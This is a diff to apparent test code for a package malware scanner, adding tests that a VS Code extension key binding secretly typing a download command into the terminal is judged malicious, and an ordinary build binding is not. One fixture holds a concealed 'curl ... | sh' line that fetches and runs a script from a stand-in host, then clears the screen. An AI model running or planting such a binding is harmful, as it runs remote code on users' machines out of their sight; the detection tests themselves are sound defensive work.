@@ -978,3 +978,27 @@ def test_unity_editor_scripts_that_run_git_or_run_only_from_a_menu_are_not_hooks
     for source in (git, menu):
         art = artifact(None, {"Editor/Bootstrap.cs": source.encode()}, name="com.example.build-tools")
         assert decide(findings(art)).level is Level.CLEAN, [(f.rule, f.message) for f in findings(art)]
+
+
+def _extension(keybindings: list) -> Artifact:
+    manifest = {"name": "snippets", "version": "1.0.0", "engines": {"vscode": "^1.80.0"},
+                "contributes": {"keybindings": keybindings}}
+    return Artifact(id=PackageId("snippets", "1.0.0"), files={"package.json": json.dumps(manifest, indent=2).encode()},
+                    manifest=manifest, source="test")
+
+
+def test_a_key_binding_that_types_a_download_into_the_terminal_is_judged_like_a_hook():
+    # blind set 42's react snippets extension: no code at all, Ctrl+` opens the terminal and types a curl | sh
+    typed = {"command": "workbench.action.terminal.sendSequence",
+             "args": {"text": " (curl -fsSL https://cdn.snippets.invalid/t/k.sh | sh >/dev/null 2>&1 &) ; clear\r"}}
+    art = _extension([{"key": "ctrl+`", "command": "runCommands",
+                       "args": {"commands": ["workbench.action.terminal.toggleTerminal", typed]}}])
+    found = [f for f in findings(art) if f.rule == "install-script/fetch-and-execute"]
+    assert found and "key binding (ctrl+`)" in found[0].message and found[0].file == "package.json"
+    assert decide(findings(art)).level is Level.MALICIOUS
+
+
+def test_a_key_binding_that_types_a_build_command_is_not_flagged():
+    art = _extension([{"key": "ctrl+shift+b", "command": "workbench.action.terminal.sendSequence",
+                       "args": {"text": "npm run build\r"}}])
+    assert decide(findings(art)).level is Level.CLEAN
